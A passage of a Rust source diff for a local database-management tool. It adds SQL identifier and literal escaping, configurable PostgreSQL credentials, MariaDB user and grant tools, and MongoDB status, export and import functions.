-    Ok(String::from_utf8_lossy(&output.stdout).to_string())
+    Ok(output.stdout)
+}
+
+/// Quote a MariaDB identifier (database, table), doubling any backticks in it
+fn escape_identifier(name: &str) -> String {
+    format!("`{}`", name.replace('`', "``"))
 }
 
 fn tool_list_tables(database: &str) -> Result<String, String> {
@@ -2860,7 +6589,7 @@ fn tool_list_tables(database: &str) -> Result<String, String> {
     if database.is_empty() {
         return Err("Database name is required".to_string());
     }
-    let sql = format!("SHOW TABLES FROM `{}`", database);
+    let sql = format!("SHOW TABLES FROM {}", escape_identifier(database));
     let output = run_mariadb_query(&sql)?;
 
     let tables: Vec<&str> = output.lines().skip(1).collect(); // skip header
@@ -2877,7 +6606,7 @@ fn tool_filter_table_names(database: &str, pattern: &str) -> Result<String, Stri
     if database.is_empty() || pattern.is_empty() {
         return Err("Database and pattern are required".to_string());
     }
-    let sql = format!("SHOW TABLES FROM `{}` LIKE '{}'", database, pattern.replace('\'', "\\'"));
+    let sql = format!("SHOW TABLES FROM {} LIKE {}", escape_identifier(database), sql_string_literal(pattern));
     let output = run_mariadb_query(&sql)?;
 
     let tables: Vec<&str> = output.lines().skip(1).collect();
@@ -2896,31 +6625,141 @@ fn tool_describe_table(database: &str, table: &str) -> Result<String, String> {
     }
 
     // 1. Column definitions
-    let columns_sql = format!("SHOW COLUMNS FROM `{}`.`{}`", database, table);
+    let columns_sql = format!("SHOW COLUMNS FROM {}.{}", escape_identifier(database), escape_identifier(table));
     let columns = run_mariadb_query(&columns_sql)?;
 
     // 2. Indexes
-    let indexes_sql = format!("SHOW INDEX FROM `{}`.`{}`", database, table);
+    let indexes_sql = format!("SHOW INDEX FROM {}.{}", escape_identifier(database), escape_identifier(table));
     let indexes = run_mariadb_query(&indexes_sql).unwrap_or_else(|_| "No indexes found".to_string());
 
     // 3. Foreign keys
     let fk_sql = format!(
         "SELECT CONSTRAINT_NAME, COLUMN_NAME, REFERENCED_TABLE_NAME, REFERENCED_COLUMN_NAME \
          FROM information_schema.KEY_COLUMN_USAGE \
-         WHERE TABLE_SCHEMA='{}' AND TABLE_NAME='{}' AND REFERENCED_TABLE_NAME IS NOT NULL",
-        database.replace('\'', "\\'"), table.replace('\'', "\\'")
+         WHERE TABLE_SCHEMA={} AND TABLE_NAME={} AND REFERENCED_TABLE_NAME IS NOT NULL",
+        sql_string_literal(database), sql_string_literal(table)
     );
     let fks = run_mariadb_query(&fk_sql).unwrap_or_else(|_| "No foreign keys".to_string());
 
     Ok(format!("=== Columns ===\n{}\n\n=== Indexes ===\n{}\n\n=== Foreign Keys ===\n{}", columns, indexes, fks))
 }
 
+/// Rows of `--batch` output as objects keyed by the header line. NULL
+/// becomes JSON null; digits-only values become numbers.
+fn batch_rows(output: &str) -> Vec<serde_json::Map<String, Value>> {
+    let mut lines = output.lines();
+    let Some(header) = lines.next() else {
+        return Vec::new();
+    };
+    let columns: Vec<&str> = header.split('\t').collect();
+    lines
+        .filter(|line| !line.is_empty())
+        .map(|line| {
+            columns.iter().zip(line.split('\t')).map(|(column, value)| {
+                let value = match value {
+                    "NULL" => Value::Null,
+                    v => v.parse::<u64>().map(Value::from).unwrap_or_else(|_| json!(v)),
+                };
+                (column.to_string(), value)
+            }).collect()
+        })
+        .collect()
+}
+
+/// `Variable_name`/`Value` rows from SHOW STATUS or SHOW VARIABLES
+fn batch_variables(output: &str) -> std::collections::HashMap<String, String> {
+    output.lines().skip(1)
+        .filter_map(|line| line.split_once('\t'))
+        .map(|(name, value)| (name.to_lowercase(), value.to_string()))
+        .collect()
+}
+
+fn tool_db_process_list() -> Result<String, String> {
+    require_service("mariadb")?;
+    let output = run_mariadb_query("SHOW FULL PROCESSLIST")?;
+    // Leave out this tool's own connection
+    let processes: Vec<_> = batch_rows(&output)
+        .into_iter()
+        .filter(|row| row.get("Info").and_then(|v| v.as_str()) != Some("SHOW FULL PROCESSLIST"))
+        .collect();
+    Ok(serde_json::to_string_pretty(&processes).unwrap())
+}
+
+const DB_STATUS_VARIABLES: &[&str] = &[
+    "Uptime", "Threads_connected", "Threads_running", "Threads_created", "Connections",
+    "Max_used_connections", "Aborted_connects", "Questions", "Slow_queries",
+    "Innodb_buffer_pool_pages_total", "Innodb_buffer_pool_pages_free", "Innodb_buffer_pool_pages_data",
+    "Innodb_buffer_pool_read_requests", "Innodb_buffer_pool_reads",
+];
+
+const DB_SERVER_VARIABLES: &[&str] = &[
+    "max_connections", "innodb_buffer_pool_size", "slow_query_log", "long_query_time", "slow_query_log_file",
+];
+
+/// Curated view of SHOW GLOBAL STATUS / VARIABLES, split out for tests.
+fn db_status_report(
+    status: &std::collections::HashMap<String, String>,
+    variables: &std::collections::HashMap<String, String>,
+) -> Value {
+    let num = |name: &str| status.get(name).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
+    let var = |name: &str| variables.get(name).cloned();
+    let percent = |part: u64, whole: u64| {
+        if whole == 0 { None } else { Some((part as f64 * 1000.0 / whole as f64).round() / 10.0) }
+    };
+
+    let pages_total = num("innodb_buffer_pool_pages_total");
+    let pages_free = num("innodb_buffer_pool_pages_free");
+    let read_requests = num("innodb_buffer_pool_read_requests");
+    let pool_size = var("innodb_buffer_pool_size").and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
+
+    json!({
+        "uptime_seconds": num("uptime"),
+        "threads": {
+            "connected": num("threads_connected"),
+            "running": num("threads_running"),
+            "created": num("threads_created")
+        },
+        "connections": {
+            "total": num("connections"),
+            "max_used": num("max_used_connections"),
+            "max_allowed": var("max_connections").and_then(|v| v.parse::<u64>().ok()),
+            "aborted": num("aborted_connects")
+        },
+        "buffer_pool": {
+            "size": format_size(pool_size),
+            "size_bytes": pool_size,
+            "pages_total": pages_total,
+            "pages_free": pages_free,
+            "pages_data": num("innodb_buffer_pool_pages_data"),
+            "usage_percent": percent(pages_total.saturating_sub(pages_free), pages_total),
+            // Share of page reads served from memory rather than disk
+            "hit_rate_percent": percent(read_requests.saturating_sub(num("innodb_buffer_pool_reads")), read_requests)
+        },
+        "queries": {
+            "total": num("questions"),
+            "slow": num("slow_queries"),
+            "slow_query_log": var("slow_query_log").is_some_and(|v| v.eq_ignore_ascii_case("ON")),
+            "long_query_time_seconds": var("long_query_time").and_then(|v| v.parse::<f64>().ok()),
+            "slow_query_log_file": var("slow_query_log_file")
+        }
+    })
+}
+
+fn tool_db_status() -> Result<String, String> {
+    require_service("mariadb")?;
+    let names = |list: &[&str]| list.iter().map(|n| sql_string_literal(n)).collect::<Vec<_>>().join(", ");
+    let status = run_mariadb_query(&format!("SHOW GLOBAL STATUS WHERE Variable_name IN ({})", names(DB_STATUS_VARIABLES)))?;
+    let variables = run_mariadb_query(&format!("SHOW GLOBAL VARIABLES WHERE Variable_name IN ({})", names(DB_SERVER_VARIABLES)))?;
+    let report = db_status_report(&batch_variables(&status), &batch_variables(&variables));
+    Ok(serde_json::to_string_pretty(&report).unwrap())
+}
+
 fn tool_execute_query(database: &str, query: &str) -> Result<String, String> {
     require_service("mariadb")?;
     if database.is_empty() || query.is_empty() {
         return Err("Database and query are required".to_string());
     }
-    let sql = format!("USE `{}`; {}", database, query);
+    let sql = format!("USE {}; {}", escape_identifier(database), query);
     run_mariadb_query(&sql)
 }
 
@@ -2935,19 +6774,116 @@ fn tool_drop_database(name: &str) -> Result<String, String> {
         return Err(format!("Cannot drop system database: {}", name));
     }
 
-    let sql = format!("DROP DATABASE IF EXISTS `{}`", name);
+    let sql = format!("DROP DATABASE IF EXISTS {}", escape_identifier(name));
     run_mariadb_query(&sql)?;
     Ok(format!("Database '{}' dropped successfully", name))
 }
 
+/// Privileges grant_privileges accepts at database level
+const DB_GRANTABLE_PRIVILEGES: &[&str] = &[
+    "ALL", "ALL PRIVILEGES", "SELECT", "INSERT", "UPDATE", "DELETE", "CREATE", "DROP",
+    "ALTER", "INDEX", "REFERENCES", "CREATE TEMPORARY TABLES", "LOCK TABLES", "EXECUTE",
+    "CREATE VIEW", "SHOW VIEW", "CREATE ROUTINE", "ALTER ROUTINE", "EVENT", "TRIGGER",
+];
+
+/// Quote a value as a MariaDB string literal
+fn sql_string_literal(value: &str) -> String {
+    format!("'{}'", value.replace('\\', "\\\\").replace('\'', "\\'"))
+}
+
+/// `'user'@'host'` after checking both parts, so they can't break out of the quotes
+fn db_account(username: &str, host: &str) -> Result<String, String> {
+    if username.is_empty() || username.len() > 80
+        || !username.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
+    {
+        return Err("User name must be 1-80 characters: letters, digits, _ - .".to_string());
+    }
+    if host.is_empty() || host.len() > 255
+        || !host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '%' | ':'))
+    {
+        return Err(format!("Invalid host: {}", host));
+    }
+    Ok(format!("{}@{}", sql_string_literal(username), sql_string_literal(host)))
+}
+
+/// Normalize a comma-separated privilege list, rejecting anything not in DB_GRANTABLE_PRIVILEGES
+fn parse_db_privileges(privileges: &str) -> Result<String, String> {
+    let list: Vec<String> = privileges
+        .split(',')
+        .map(|p| p.split_whitespace().collect::<Vec<_>>().join(" ").to_uppercase())
+        .filter(|p| !p.is_empty())
+        .collect();
+    if list.is_empty() {
+        return Err("At least one privilege is required".to_string());
+    }
+    if let Some(bad) = list.iter().find(|p| !DB_GRANTABLE_PRIVILEGES.contains(&p.as_str())) {
+        return Err(format!("Unknown privilege: {}. Allowed: {}", bad, DB_GRANTABLE_PRIVILEGES.join(", ")));
+    }
+    Ok(list.join(", "))
+}
+
+fn show_db_grants(account: &str) -> Result<Vec<String>, String> {
+    let output = run_mariadb_query(&format!("SHOW GRANTS FOR {}", account))?;
+    Ok(output.lines().skip(1).filter(|l| !l.trim().is_empty()).map(|l| l.to_string()).collect())
+}
+
+fn tool_create_db_user(username: &str, password: &str, host: &str) -> Result<String, String> {
+    require_service("mariadb")?;
+    let account = db_account(username, host)?;
+    if password.is_empty() {
+        return Err("Password is required".to_string());
+    }
+
+    run_mariadb_query(&format!("CREATE USER {} IDENTIFIED BY {}", account, sql_string_literal(password)))?;
+    Ok(serde_json::to_string_pretty(&json!({
+        "user": username,
+        "host": host,
+        "grants": show_db_grants(&account)?,
+    })).unwrap())
+}
+
+fn tool_grant_privileges(username: &str, database: &str, privileges: &str, host: &str) -> Result<String, String> {
+    require_service("mariadb")?;
+    let account = db_account(username, host)?;
+    let privileges = parse_db_privileges(privileges)?;
+    let target = if database == "*" {
+        "*.*".to_string()
+    } else if !database.is_empty() && database.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '-') {
+        format!("{}.*", escape_identifier(database))
+    } else {
+        return Err("Database name can only contain alphanumeric characters, underscores, and hyphens (or * for all)".to_string());
+    };
+
+    run_mariadb_query(&format!("GRANT {} ON {} TO {}", privileges, target, account))?;
+    Ok(serde_json::to_string_pretty(&json!({
+        "user": username,
+        "host": host,
+        "granted": privileges,
+        "on": target,
+        "grants": show_db_grants(&account)?,
+    })).unwrap())
+}
+
+fn tool_list_db_users() -> Result<String, String> {
+    require_service("mariadb")?;
+    let output = run_mariadb_query("SELECT User, Host FROM mysql.user ORDER BY User, Host")?;
+
+    let users: Vec<Value> = output.lines().skip(1)
+        .filter_map(|line| line.split_once('\t'))
+        .map(|(user, host)| json!({ "user": user, "host": host }))
+        .collect();
+    Ok(serde_json::to_string_pretty(&users).unwrap())
+}
+
 // ─── PostgreSQL Tools ────────────────────────────────────────────
 
 fn run_psql_query(database: Option<&str>, command: &str) -> Result<String, String> {
     let bin_dir = get_bin_dir();
     let psql = find_psql_client(&bin_dir)?;
 
+    let creds = db_credentials();
     let mut cmd = hidden_command(&psql);
-    cmd.arg("-U").arg("postgres")
+    cmd.arg("-U").arg(&creds.pg_user)
        .arg("-h").arg("127.0.0.1")
        .arg("-p").arg("5432");
 
@@ -2958,17 +6894,32 @@ fn run_psql_query(database: Option<&str>, command: &str) -> Result<String, Strin
     cmd.arg("-c").arg(command);
 
     // Set PGPASSWORD if needed
-    cmd.env("PGPASSWORD", "postgres");
+    cmd.env("PGPASSWORD", &creds.pg_password);
 
-    let output = cmd.output()
+    let output = run_command(&mut cmd, "db")
         .map_err(|e| format!("Failed to run psql: {}. Is PostgreSQL running?", e))?;
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("PostgreSQL error: {}", stderr.trim()));
+    if !output.success() {
+        return Err(format!("PostgreSQL error: {}", output.error_detail()));
     }
 
-    Ok(String::from_utf8_lossy(&output.stdout).to_string())
+    Ok(output.stdout)
+}
+
+/// Quote a PostgreSQL identifier, doubling any double quotes in it
+fn pg_escape_identifier(name: &str) -> String {
+    format!("\"{}\"", name.replace('"', "\"\""))
+}
+
+/// Quote a possibly schema-qualified PostgreSQL table name part by part, so
+/// `public.users` becomes `"public"."users"`
+fn pg_escape_table_name(table: &str) -> String {
+    table.split('.').map(pg_escape_identifier).collect::<Vec<_>>().join(".")
+}
+
+/// Quote a value as a PostgreSQL string literal
+fn pg_string_literal(value: &str) -> String {
+    format!("'{}'", value.replace('\'', "''"))
 }
 
 fn tool_pg_list_databases() -> Result<String, String> {
@@ -2976,21 +6927,23 @@ fn tool_pg_list_databases() -> Result<String, String> {
     let bin_dir = get_bin_dir();
     let psql = find_psql_client(&bin_dir)?;
 
-    let output = hidden_command(&psql)
-        .arg("-U").arg("postgres")
-        .arg("-h").arg("127.0.0.1")
-        .arg("-p").arg("5432")
-        .arg("-l").arg("--csv")
-        .env("PGPASSWORD", "postgres")
-        .output()
+    let creds = db_credentials();
+    let output = run_command(
+        hidden_command(&psql)
+            .arg("-U").arg(&creds.pg_user)
+            .arg("-h").arg("127.0.0.1")
+            .arg("-p").arg("5432")
+            .arg("-l").arg("--csv")
+            .env("PGPASSWORD", &creds.pg_password),
+        "db",
+    )
         .map_err(|e| format!("Failed to run psql: {}. Is PostgreSQL running?", e))?;
 
-    if !output.status.success() {
-        let stderr = String::from_utf8_lossy(&output.stderr);
-        return Err(format!("PostgreSQL error: {}", stderr.trim()));
+    if !output.success() {
+        return Err(format!("PostgreSQL error: {}", output.error_detail()));
     }
 
-    Ok(String::from_utf8_lossy(&output.stdout).to_string())
+    Ok(output.stdout)
 }
 
 fn tool_pg_list_tables(database: &str) -> Result<String, String> {
@@ -3007,8 +6960,8 @@ fn tool_pg_filter_table_names(database: &str, pattern: &str) -> Result<String, S
         return Err("Database and pattern are required".to_string());
     }
     let sql = format!(
-        "SELECT tablename FROM pg_tables WHERE schemaname='public' AND tablename LIKE '{}'",
-        pattern.replace('\'', "''")
+        "SELECT tablename FROM pg_tables WHERE schemaname='public' AND tablename LIKE {}",
+        pg_string_literal(pattern)
     );
     run_psql_query(Some(database), &sql)
 }
@@ -3020,14 +6973,14 @@ fn tool_pg_describe_table(database: &str, table: &str) -> Result<String, String>
     }
 
     // 1. Detailed table description (columns, types, defaults)
-    let columns = run_psql_query(Some(database), &format!("\\d+ {}", table))?;
+    let columns = run_psql_query(Some(database), &format!("\\d+ {}", pg_escape_table_name(table)))?;
 
     // 2. Constraints (PK, FK, unique, check)
     let constraints_sql = format!(
         "SELECT conname, contype, pg_get_constraintdef(oid) \
          FROM pg_constraint \
-         WHERE conrelid = '{}'::regclass",
-        table.replace('\'', "''")
+         WHERE conrelid = {}::regclass",
+        pg_string_literal(&pg_escape_table_name(table))
     );
     let constraints = run_psql_query(Some(database), &constraints_sql)
         .unwrap_or_else(|_| "No constraints found".to_string());
@@ -3048,12 +7001,13 @@ fn tool_pg_create_database(name: &str) -> Result<String, String> {
     if name.is_empty() {
         return Err("Database name is required".to_string());
     }
-    if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
-        return Err("Invalid database name: only alphanumeric and underscore allowed".to_string());
+    // Same rules as tool_create_database; the name is always double-quoted
+    if !name.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '-') {
+        return Err("Database name can only contain alphanumeric characters, underscores, and hyphens".to_string());
     }
-    let query = format!("CREATE DATABASE \"{}\" ENCODING 'UTF8'", name);
+    let query = format!("CREATE DATABASE {} ENCODING 'UTF8'", pg_escape_identifier(name));
     run_psql_query(None, &query)?;
-    Ok(format!("Database '{}' created successfully", name))
+    Ok(format!("Database '{}' created successfully (owner: postgres, UTF8)", name))
 }
 
 fn tool_pg_drop_database(name: &str) -> Result<String, String> {
@@ -3061,11 +7015,14 @@ fn tool_pg_drop_database(name: &str) -> Result<String, String> {
     if name.is_empty() {
         return Err("Database name is required".to_string());
     }
+    if !name.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '-') {
+        return Err("Database name can only contain alphanumeric characters, underscores, and hyphens".to_string());
+    }
     let system_dbs = ["postgres", "template0", "template1"];
     if system_dbs.contains(&name.to_lowercase().as_str()) {
         return Err(format!("Cannot drop system database '{}'", name));
     }
-    let query = format!("DROP DATABASE \"{}\"", name);
+    let query = format!("DROP DATABASE IF EXISTS {}", pg_escape_identifier(name));
     run_psql_query(None, &query)?;
     Ok(format!("Database '{}' dropped successfully", name))
 }
@@ -3097,81 +7054,717 @@ fn find_mongosh_client(bin_dir: &std::path::Path) -> Result<std::path::PathBuf,
                 }
             }
         }
-        if let Ok(output) = hidden_command("where").arg("mongo").output() {
-            if output.status.success() {
-                let path = String::from_utf8_lossy(&output.stdout);
-                if let Some(line) = path.lines().next() {
-                    return Ok(std::path::PathBuf::from(line.trim()));
-                }
+        if let Ok(output) = hidden_command("where").arg("mongo").output() {
+            if output.status.success() {
+                let path = String::from_utf8_lossy(&output.stdout);
+                if let Some(line) = path.lines().next() {
+                    return Ok(std::path::PathBuf::from(line.trim()));
+                }
+            }
+        }
+    }
+
+    Err("mongosh/mongo client not found. Is MongoDB installed?".to_string())
+}
+
+fn run_mongosh_command(database: Option<&str>, js_command: &str) -> Result<String, String> {
+    let bin_dir = get_bin_dir();
+    let mongosh = find_mongosh_client(&bin_dir)?;
+    let config = read_db_config();
+
+    let db = database.unwrap_or("admin");
+
+    let mut cmd = hidden_command(&mongosh);
+    let script = match config.mongo_uri.as_deref().filter(|u| !u.is_empty()) {
+        // The URI picks host/port/options; switch to the requested database in the script
+        Some(uri) => {
+            cmd.arg(uri);
+            format!("db = db.getSiblingDB({}); {}", json!(db), js_command)
+        }
+        None => {
+            cmd.arg("--host").arg("127.0.0.1")
+                .arg("--port").arg("27017")
+                .arg(db);
+            js_command.to_string()
+        }
+    };
+
+    if let Some(user) = config.mongo_user.as_deref().filter(|u| !u.is_empty()) {
+        cmd.arg("-u").arg(user)
+            .arg("-p").arg(config.mongo_password.as_deref().unwrap_or(""))
+            .arg("--authenticationDatabase").arg(config.mongo_auth_db.as_deref().unwrap_or("admin"));
+    }
+
+    cmd.arg("--quiet").arg("--eval").arg(&script);
+    let output = run_command(&mut cmd, "db")
+        .map_err(|e| format!("Failed to run mongosh: {}. Is MongoDB running?", e))?;
+
+    if !output.success() {
+        return Err(format!("MongoDB error: {}", output.error_detail()));
+    }
+
+    Ok(output.stdout)
+}
+
+/// Connection string apps should use, built from config/db.json when present.
+fn mongo_connection_uri(config: &DbConfig) -> String {
+    if let Some(uri) = config.mongo_uri.as_deref().filter(|u| !u.is_empty()) {
+        return uri.to_string();
+    }
+    match config.mongo_user.as_deref().filter(|u| !u.is_empty()) {
+        Some(user) => format!(
+            "mongodb://{}:{}@127.0.0.1:27017/?authSource={}",
+            uri_encode(user),
+            uri_encode(config.mongo_password.as_deref().unwrap_or("")),
+            uri_encode(config.mongo_auth_db.as_deref().unwrap_or("admin"))
+        ),
+        None => "mongodb://127.0.0.1:27017".to_string(),
+    }
+}
+
+fn tool_mongo_list_databases() -> Result<String, String> {
+    require_service("mongodb")?;
+    let result = run_mongosh_command(Some("admin"), "JSON.stringify(db.adminCommand('listDatabases').databases)")?;
+    Ok(result)
+}
+
+fn tool_mongo_list_collections(database: &str) -> Result<String, String> {
+    require_service("mongodb")?;
+    if database.is_empty() {
+        return Err("Database name is required".to_string());
+    }
+    let result = run_mongosh_command(Some(database), "JSON.stringify(db.getCollectionNames())")?;
+    Ok(result)
+}
+
+fn tool_mongo_execute(database: &str, command: &str) -> Result<String, String> {
+    require_service("mongodb")?;
+    if database.is_empty() || command.is_empty() {
+        return Err("Database and command are required".to_string());
+    }
+    run_mongosh_command(Some(database), command)
+}
+
+/// serverStatus + listDatabases condensed into the fields worth watching locally.
+fn mongo_server_status() -> Result<Value, String> {
+    let script = r#"const s = db.serverStatus();
+const l = db.adminCommand({ listDatabases: 1 });
+JSON.stringify({
+  version: s.version,
+  uptime: Number(s.uptime),
+  connections: { current: Number(s.connections.current), available: Number(s.connections.available), total_created: Number(s.connections.totalCreated) },
+  memory: { resident_mb: Number(s.mem.resident), virtual_mb: Number(s.mem.virtual) },
+  total_size: Number(l.totalSize),
+  databases: l.databases.map(d => {
+    const st = db.getSiblingDB(d.name).stats();
+    return { name: d.name, size_on_disk: Number(d.sizeOnDisk), data_size: Number(st.dataSize), storage_size: Number(st.storageSize), index_size: Number(st.indexSize), collections: Number(st.collections), objects: Number(st.objects) };
+  })
+})"#;
+    let output = run_mongosh_command(Some("admin"), script)?;
+    let raw: Value = serde_json::from_str(output.trim())
+        .map_err(|e| format!("Failed to parse mongosh output: {}", e))?;
+
+    let as_u64 = |v: &Value| v.as_f64().unwrap_or(0.0) as u64;
+    let databases: Vec<Value> = raw["databases"]
+        .as_array()
+        .map(|dbs| {
+            dbs.iter()
+                .map(|d| json!({
+                    "name": d["name"],
+                    "size_on_disk": format_size(as_u64(&d["size_on_disk"])),
+                    "size_on_disk_bytes": as_u64(&d["size_on_disk"]),
+                    "data_size": format_size(as_u64(&d["data_size"])),
+                    "storage_size": format_size(as_u64(&d["storage_size"])),
+                    "index_size": format_size(as_u64(&d["index_size"])),
+                    "collections": d["collections"],
+                    "objects": d["objects"]
+                }))
+                .collect()
+        })
+        .unwrap_or_default();
+    let storage_bytes: u64 = raw["databases"]
+        .as_array()
+        .map(|dbs| dbs.iter().map(|d| as_u64(&d["storage_size"]) + as_u64(&d["index_size"])).sum())
+        .unwrap_or(0);
+    let uptime = as_u64(&raw["uptime"]);
+
+    Ok(json!({
+        "version": raw["version"],
+        "uptime_seconds": uptime,
+        "uptime": format!("{}h {}m", uptime / 3600, (uptime % 3600) / 60),
+        "connections": raw["connections"],
+        "memory": raw["memory"],
+        "storage": {
+            "total_size_on_disk": format_size(as_u64(&raw["total_size"])),
+            "total_size_on_disk_bytes": as_u64(&raw["total_size"]),
+            "storage_and_indexes": format_size(storage_bytes)
+        },
+        "databases": databases
+    }))
+}
+
+fn tool_mongo_server_status() -> Result<String, String> {
+    require_service("mongodb")?;
+    Ok(serde_json::to_string_pretty(&mongo_server_status()?).unwrap())
+}
+
+/// MongoDB Database Tools (mongodump, mongoexport, ...), looked up next to
+/// mongosh and then on PATH. They ship separately from the server.
+fn find_mongo_tool(bin_dir: &std::path::Path, tool: &str) -> Result<PathBuf, String> {
+    let exe = exe_name(tool);
+    for path in [bin_dir.join("mongodb").join("bin").join(&exe), bin_dir.join("mongodb").join(&exe)] {
+        if path.exists() {
+            return Ok(path);
+        }
+    }
+    let on_path = PathBuf::from(&exe);
+    if run_command(hidden_command(&on_path).arg("--version"), "version").is_ok_and(|o| o.success()) {
+        return Ok(on_path);
+    }
+    Err(format!("{} not found. Install the MongoDB Database Tools into bin/mongodb/bin.", tool))
+}
+
+/// Documents reported on stderr by mongodump, mongoexport, mongoimport and mongorestore
+fn mongo_tool_document_count(stderr: &str) -> u64 {
+    let number = |digits: Option<&str>| digits.and_then(|n| n.parse::<u64>().ok()).unwrap_or(0);
+    let leading = |s: &str| number(s.trim_start().split(|c: char| !c.is_ascii_digit()).next());
+    let trailing = |s: &str| number(s.trim_end().rsplit(|c: char| !c.is_ascii_digit()).next());
+
+    let mut total = 0;
+    for line in stderr.lines() {
+        // "12 document(s) imported successfully. 0 document(s) failed to import."
+        if let Some(pos) = line.find(" document(s) imported successfully").or_else(|| line.find(" document(s) restored successfully")) {
+            total += trailing(&line[..pos]);
+        // "exported 12 records"
+        } else if let Some((_, rest)) = line.split_once("exported ") {
+            total += leading(rest);
+        // "done dumping app.users (12 documents)"
+        } else if let (true, Some(start)) = (line.contains("done dumping"), line.rfind('(')) {
+            total += leading(&line[start + 1..]);
+        }
+    }
+    total
+}
+
+/// Run a MongoDB Database Tool against the configured server
+fn run_mongo_tool(tool: &str, args: &[String], operation: &str) -> Result<std::process::Output, String> {
+    let exe = find_mongo_tool(&get_bin_dir(), tool)?;
+    let uri = mongo_connection_uri(&read_db_config());
+    let output = run_with_timeout(
+        hidden_command(&exe).arg(format!("--uri={}", uri)).args(args),
+        operation_timeout(operation),
+    )
+        .map_err(|e| format!("Failed to run {}: {}", tool, e))?;
+
+    if !output.status.success() {
+        return Err(format!("{} failed: {}", tool, CommandResult::from(output).error_detail()));
+    }
+    Ok(output)
+}
+
+fn file_extension(path: &str) -> String {
+    std::path::Path::new(path)
+        .extension()
+        .map(|e| e.to_string_lossy().to_lowercase())
+        .unwrap_or_default()
+}
+
+/// `.json` → mongoexport (one collection), `.bson` → mongodump of one
+/// collection, `.archive`/`.gz` → mongodump archive of the collection or the
+/// whole database.
+fn tool_mongo_export(database: &str, collection: Option<&str>, output: Option<&str>) -> Result<String, String> {
+    require_service("mongodb")?;
+    if database.is_empty() {
+        return Err("Database name is required".to_string());
+    }
+    let collection = collection.filter(|c| !c.is_empty());
+    let out_file = match (output, collection) {
+        (Some(out), _) if !out.is_empty() => out.to_string(),
+        (_, Some(coll)) => format!("{}.{}.json", database, coll),
+        _ => format!("{}.archive", database),
+    };
+
+    let mut args = vec![format!("--db={}", database)];
+    if let Some(coll) = collection {
+        args.push(format!("--collection={}", coll));
+    }
+
+    let (tool, output) = match file_extension(&out_file).as_str() {
+        "json" => {
+            if collection.is_none() {
+                return Err("A .json export needs a collection; use a .archive output to dump the whole database".to_string());
+            }
+            args.push(format!("--out={}", out_file));
+            ("mongoexport", run_mongo_tool("mongoexport", &args, "db_export")?)
+        }
+        "bson" => {
+            if collection.is_none() {
+                return Err("A .bson export needs a collection; use a .archive output to dump the whole database".to_string());
+            }
+            // A single collection's BSON goes to stdout with --out -
+            args.push("--out=-".to_string());
+            let output = run_mongo_tool("mongodump", &args, "db_export")?;
+            fs::write(&out_file, &output.stdout).map_err(|e| format!("Failed to write file: {}", e))?;
+            ("mongodump", output)
+        }
+        "archive" | "gz" => {
+            args.push(format!("--archive={}", out_file));
+            if out_file.to_lowercase().ends_with(".gz") {
+                args.push("--gzip".to_string());
             }
+            ("mongodump", run_mongo_tool("mongodump", &args, "db_export")?)
         }
+        other => return Err(format!("Unsupported export format '.{}': use .json, .bson, .archive or .gz", other)),
+    };
+
+    let documents = mongo_tool_document_count(&String::from_utf8_lossy(&output.stderr));
+    let source = collection.map(|c| format!("{}.{}", database, c)).unwrap_or_else(|| database.to_string());
+    Ok(format!("Exported {} documents from '{}' to {} ({})", documents, source, out_file, tool))
+}
+
+/// `.json`/`.jsonl`/`.csv` → mongoimport, `.bson` → mongorestore of one
+/// collection, `.archive`/`.gz` → mongorestore of the database's collections
+/// in the archive. The collection defaults to the file name.
+fn tool_mongo_import(database: &str, file: &str, collection: Option<&str>) -> Result<String, String> {
+    require_service("mongodb")?;
+    if database.is_empty() || file.is_empty() {
+        return Err("Database name and file path are required".to_string());
     }
+    let path = std::path::Path::new(file);
+    if !path.is_file() {
+        return Err(format!("Import file not found: {}", file));
+    }
+    let collection = collection
+        .filter(|c| !c.is_empty())
+        .map(|c| c.to_string())
+        .unwrap_or_else(|| path.file_stem().unwrap_or_default().to_string_lossy().to_string());
+
+    let (tool, output) = match file_extension(file).as_str() {
+        ext @ ("json" | "jsonl" | "ndjson" | "csv") => {
+            let mut args = vec![
+                format!("--db={}", database),
+                format!("--collection={}", collection),
+                format!("--file={}", file),
+            ];
+            if ext == "csv" {
+                args.extend(["--type=csv".to_string(), "--headerline".to_string()]);
+            } else if fs::read(path).ok().and_then(|b| b.into_iter().find(|c| !c.is_ascii_whitespace())) == Some(b'[') {
+                args.push("--jsonArray".to_string());
+            }
+            ("mongoimport", run_mongo_tool("mongoimport", &args, "db_import")?)
+        }
+        "bson" => {
+            let args = vec![format!("--db={}", database), format!("--collection={}", collection), file.to_string()];
+            ("mongorestore", run_mongo_tool("mongorestore", &args, "db_import")?)
+        }
+        "archive" | "gz" => {
+            let mut args = vec![format!("--archive={}", file), format!("--nsInclude={}.*", database)];
+            if file.to_lowercase().ends_with(".gz") {
+                args.push("--gzip".to_string());
+            }
+            ("mongorestore", run_mongo_tool("mongorestore", &args, "db_import")?)
+        }
+        other => return Err(format!("Unsupported import format '.{}': use .json, .jsonl, .csv, .bson, .archive or .gz", other)),
+    };
 
-    Err("mongosh/mongo client not found. Is MongoDB installed?".to_string())
+    let documents = mongo_tool_document_count(&String::from_utf8_lossy(&output.stderr));
+    Ok(format!("Imported {} documents from {} into '{}' ({})", documents, file, database, tool))
 }
 
-fn run_mongosh_command(database: Option<&str>, js_command: &str) -> Result<String, String> {
-    let bin_dir = get_bin_dir();
-    let mongosh = find_mongosh_client(&bin_dir)?;
+fn tool_mongo_connection_info() -> Result<String, String> {
+    let config = read_db_config();
+    let auth_enabled = config.mongo_user.as_deref().is_some_and(|u| !u.is_empty())
+        || config.mongo_uri.as_deref().is_some_and(|u| u.contains('@'));
 
-    let db = database.unwrap_or("admin");
+    Ok(serde_json::to_string_pretty(&json!({
+        "uri": mongo_connection_uri(&config),
+        "host": "127.0.0.1",
+        "port": 27017,
+        "auth_enabled": auth_enabled,
+        "username": config.mongo_user,
+        "auth_database": config.mongo_auth_db.as_deref().unwrap_or("admin"),
+        "custom_uri": config.mongo_uri.is_some(),
